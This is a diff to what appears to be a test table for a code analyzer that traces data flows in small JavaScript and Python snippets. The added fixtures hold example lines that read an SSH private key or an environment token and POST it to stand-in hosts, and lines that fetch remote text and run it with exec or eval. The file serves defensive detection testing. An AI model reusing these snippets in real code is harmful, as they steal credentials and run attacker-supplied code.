@@ -439,6 +439,30 @@ fetch(cfg.host).then((r) => r.text()).then((t) => eval(t));
 -- config.json --
 {"host": "https://a.example.com"}
 `, "network a server -> evaluate code "},
+		"a function that is bound and called by others": {`
+-- a.js --
+const fs = require("fs");
+const { exec } = require("child_process");
+const read = fs.readFileSync.bind(null, "/home/a/.ssh/id_rsa");
+fetch.call(null, "https://a.example.com", { method: "POST", body: read("utf8") });
+fetch("https://b.example.com").then(r => r.text()).then(t => exec.apply(null, [t]));
+`, "key /home/a/.ssh/id_rsa -> send body a.example.com\nnetwork b.example.com -> run command "},
+		"a method that is bound": {`
+-- a.js --
+class A {
+  constructor() { this.go = this.go.bind(this); }
+  go(x) { fetch("https://a.example.com", { method: "POST", body: x }); }
+}
+new A().go(process.env.ACME_TOKEN);
+`, "variable ACME_TOKEN -> send body a.example.com"},
+		"a frame that a function is applied to": {`
+-- a.py --
+import pandas, requests
+def clean(x):
+    return x.strip()
+rows = pandas.DataFrame([1]).apply(clean, 1)
+requests.post("https://a.example.com", data=rows.to_csv())
+`, ""},
 		"a bound function that sends": {`
 -- a.py --
 import functools, os, requests
